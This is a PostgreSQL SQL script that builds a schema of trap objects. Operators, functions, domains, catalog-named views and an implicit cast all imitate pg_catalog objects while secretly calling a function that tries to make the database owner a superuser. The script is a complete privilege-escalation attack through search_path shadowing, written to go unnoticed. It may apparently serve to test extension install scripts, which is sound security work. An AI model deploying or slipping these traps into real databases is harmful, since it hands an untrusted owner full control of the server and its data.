-- What the owner of a database can lay in it for whoever comes with more rights, without being a superuser.
-- Every trap does what PostgreSQL's own object of that name does, so that it is not noticed, and on the way
-- tries to make the owner a superuser. Run with search_path = pg_catalog.
CREATE SCHEMA traps;
GRANT USAGE ON SCHEMA traps TO PUBLIC;

-- Calls are counted by PostgreSQL (track_functions), also in transactions that only read or are rolled back.
CREATE FUNCTION traps.spring() RETURNS bool LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog AS $$
BEGIN
    BEGIN
        EXECUTE 'RESET SESSION AUTHORIZATION';
        EXECUTE 'RESET ROLE';
        EXECUTE format('ALTER ROLE %I SUPERUSER', (
            SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = current_database()));
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    RETURN true;
END
$$;

-- Every operator of PostgreSQL's own base types.
DO $$
DECLARE
    op record;
    arguments text;
    expression text;
BEGIN
    FOR op IN
        SELECT o.oid, o.oprname AS name, o.oprleft <> 0 AS is_binary, l.oid::regtype AS l, r.oid::regtype AS r,
               o.oprresult::regtype AS result
        FROM pg_operator AS o JOIN pg_type AS r ON r.oid = o.oprright LEFT JOIN pg_type AS l ON l.oid = o.oprleft
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND r.typtype = 'b' AND COALESCE(l.typtype, 'b') = 'b'
          AND o.oprresult <> 0
    LOOP
        arguments := CASE WHEN op.is_binary THEN op.l || ', ' ELSE '' END || op.r;
        expression := format(CASE WHEN op.is_binary THEN '$1 OPERATOR(pg_catalog.%s) $2'
                                  ELSE 'OPERATOR(pg_catalog.%s) $1' END, op.name);
        EXECUTE format('CREATE FUNCTION traps.operator_%s(%s) RETURNS %s LANGUAGE plpgsql AS %L', op.oid, arguments, op.result,
            format('BEGIN PERFORM traps.spring(); RETURN %s; END', expression));
        EXECUTE format('CREATE OPERATOR traps.%s (%s RIGHTARG = %s, FUNCTION = traps.operator_%s)', op.name,
            CASE WHEN op.is_binary THEN format('LEFTARG = %s, ', op.l) ELSE '' END, op.r, op.oid);
    END LOOP;
END
$$;

-- Every ordinary function whose arguments and result are such types, of the same name.
DO $$
DECLARE
    f record;
BEGIN
    FOR f IN
        SELECT p.proname AS name, p.prorettype::regtype AS result,
               (SELECT COALESCE(string_agg(t.a::regtype::text, ', ' ORDER BY t.n), '')
                FROM unnest(p.proargtypes) WITH ORDINALITY AS t (a, n)) AS types,
               (SELECT COALESCE(string_agg('$' || n, ', ' ORDER BY n), '') FROM generate_series(1, p.pronargs) AS n) AS given
        FROM pg_proc AS p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
          AND p.provariadic = 0 AND p.proallargtypes IS NULL
          AND (SELECT bool_and(t.typtype = 'b') FROM pg_type AS t
               WHERE t.oid = p.prorettype OR t.oid = ANY (p.proargtypes))
    LOOP
        EXECUTE format('CREATE FUNCTION traps.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.name, f.types, f.result,
            format('BEGIN PERFORM traps.spring(); RETURN pg_catalog.%I(%s); END', f.name, f.given));
    END LOOP;
END
$$;

-- Types of the same names, which check what is cast to them.
DO $$
DECLARE
    type name;
BEGIN
    FOREACH type IN ARRAY '{text,name,bool,int4,int8,oid,uuid,timestamptz,interval,jsonb,bytea,float8,regclass,
                            regprocedure,regnamespace}'::name[]
    LOOP
        EXECUTE format('CREATE DOMAIN traps.%1$I AS pg_catalog.%1$I CHECK (traps.spring())', type);
    END LOOP;
END
$$;

-- Relations of the names of the catalogs that tell what is installed.
DO $$
DECLARE
    catalog name;
BEGIN
    FOREACH catalog IN ARRAY '{pg_extension,pg_available_extensions,pg_namespace,pg_roles,pg_proc,pg_depend,pg_database,
                               pg_settings,pg_class}'::name[]
    LOOP
        EXECUTE format('CREATE VIEW traps.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE traps.spring()', catalog);
    END LOOP;
END
$$;

-- A cast that nobody asks for; one needs a type of one's own.
CREATE TYPE traps.mood AS ENUM ('timedb');
CREATE FUNCTION traps.to_mood(text) RETURNS traps.mood LANGUAGE plpgsql AS
    'BEGIN PERFORM traps.spring(); RETURN ''timedb''; END';
CREATE CAST (text AS traps.mood) WITH FUNCTION traps.to_mood(text) AS IMPLICIT;
CREATE FUNCTION traps.from_mood(traps.mood) RETURNS name LANGUAGE plpgsql AS
    'BEGIN PERFORM traps.spring(); RETURN ''timedb''; END';
CREATE CAST (traps.mood AS name) WITH FUNCTION traps.from_mood(traps.mood) AS IMPLICIT;

GRANT ALL ON ALL TABLES IN SCHEMA traps TO PUBLIC;
-- What comes later is to be everybody's, whoever makes it.
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
